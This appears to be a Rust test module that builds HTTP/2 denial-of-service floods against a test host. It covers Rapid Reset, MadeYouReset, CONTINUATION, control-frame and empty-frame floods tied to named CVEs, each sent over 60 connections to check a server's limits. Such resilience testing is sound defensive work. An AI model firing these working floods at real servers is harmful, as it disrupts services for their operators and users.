//! Floods of frames over HTTP/2: each crosses a limit on counts, if there is one.

use super::{Attack, HOST, Manner, Port};
use crate::testing::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITIZED, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, section,
};

/// How many connections flood.
const CONNECTIONS: usize = 60;

const GET: &[(&str, &str)] = &[(":method", "GET"), (":scheme", "http"), (":path", "/status-200"), (":authority", HOST)];
const POST: &[(&str, &str)] =
    &[(":method", "POST"), (":scheme", "http"), (":path", "/status-200"), (":authority", HOST)];

/// Requests that are given up at once (CVE-2023-44487), without a body and with one on its way.
#[must_use]
pub fn resets() -> Vec<Attack> {
    let reset = |number| frame(RST_STREAM, 0, stream(number), &8_u32.to_be_bytes());
    let alone = |number| [get(number), reset(number)].concat();
    let with_body = |number| [post(number), frame(DATA, 0, stream(number), b"x"), reset(number)].concat();
    vec![
        flood("rapid-reset", "rapid reset", each(2000, alone)),
        flood("rapid-reset-bodies", "rapid reset with bodies", each(2000, with_body)),
    ]
}

/// Ways to make the server send the reset (CVE-2025-8671).
#[must_use]
pub fn provoked_resets() -> Vec<Attack> {
    let empty = |number| [post(number), frame(WINDOW_UPDATE, 0, stream(number), &[0; 4])].concat();
    let overflow = |number| {
        let most = frame(WINDOW_UPDATE, 0, stream(number), &0x7fff_ffff_u32.to_be_bytes());
        [post(number), most.clone(), most].concat()
    };
    let length = |number| get_with(number, ("content-length", "5"));
    let value = |number| get_with(number, ("x", " y"));
    let itself = |number: u32| {
        let priority = [&stream(number).to_be_bytes()[..], &[1]].concat();
        frame(HEADERS, END_HEADERS | END_STREAM | PRIORITIZED, stream(number), &[priority, section(GET)].concat())
    };
    vec![
        flood("made-you-reset-update", "MadeYouReset by an empty window update", each(1000, empty)),
        flood("made-you-reset-overflow", "MadeYouReset by an overflow of the window", each(1000, overflow)),
        flood("made-you-reset-length", "MadeYouReset by a wrong length", each(1000, length)),
        flood("made-you-reset-value", "MadeYouReset by a malformed value", each(1000, value)),
        flood("made-you-reset-dependency", "MadeYouReset by a dependency on itself", each(1000, itself)),
    ]
}

/// A head that does not end (CVE-2024-27316 and its like).
#[must_use]
pub fn continuations() -> Vec<Attack> {
    let begun = frame(HEADERS, END_STREAM, 1, &section(GET));
    let more = frame(CONTINUATION, 0, 1, &section(&[("x", "y")])).repeat(5000);
    let empty = frame(CONTINUATION, 0, 1, &[]).repeat(5000);
    vec![
        flood("continuation", "CONTINUATION", [begun.clone(), more].concat()),
        flood("continuation-empty", "empty CONTINUATION", [begun, empty].concat()),
    ]
}

/// Frames that have to be answered or kept account of (CVE-2019-9512, CVE-2019-9513, CVE-2019-9515).
#[must_use]
pub fn control_frames() -> Vec<Attack> {
    vec![
        flood("settings", "SETTINGS", frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]).repeat(5000)),
        flood("ping", "PING", frame(PING, 0, 0, &[0; 8]).repeat(5000)),
        flood("priority", "PRIORITY", frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]).repeat(5000)),
        flood("window-update", "WINDOW_UPDATE", frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(5000)),
    ]
}

/// Frames that carry nothing (CVE-2019-9518), and that mean nothing.
#[must_use]
pub fn empty_frames() -> Vec<Attack> {
    vec![
        flood("empty-data", "empty DATA", [post(0), frame(DATA, 0, 1, &[]).repeat(5000)].concat()),
        flood("unknown-frames", "frames of an unknown kind", frame(0x42, 0, 0, &[]).repeat(5000)),
    ]
}

fn flood(name: &'static str, title: &'static str, frames: Vec<u8>) -> Attack {
    let mut octets = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    octets.extend(frames);
    Attack { name, title, port: Port::Http2, connections: CONNECTIONS, manner: Manner::Flood, octets }
}

fn each(requests: u32, request: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..requests).flat_map(request).collect()
}

/// The client's stream of that number.
const fn stream(number: u32) -> u32 {
    number * 2 + 1
}

fn get(number: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &section(GET))
}

fn get_with(number: u32, field: (&str, &str)) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &section(&[GET, &[field]].concat()))
}

fn post(number: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream(number), &section(POST))
}
